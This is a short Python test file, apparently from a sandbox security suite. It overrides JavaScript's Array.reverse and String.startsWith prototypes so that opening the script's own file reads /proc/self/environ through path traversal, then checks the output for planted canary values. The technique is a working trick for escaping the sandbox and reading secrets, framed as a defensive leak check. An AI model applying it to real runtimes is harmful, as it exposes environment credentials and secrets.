"""Two overrides on JavaScript's prototypes turn `os.open(__file__)` into an open of /proc/self/environ."""

import os

from bait import canaries, intrinsics

_, _string, _prototype, _to_js = intrinsics()
_path = _to_js([".."] * 20 + ["proc", "self", "environ"])
_prototype.reverse = _path.valueOf.bind(_path)
_nothing = _to_js([])
_string.prototype.startsWith = _nothing.includes.bind(_nothing)
got = canaries(os.read(os.open(__file__, os.O_RDONLY), 1 << 20))
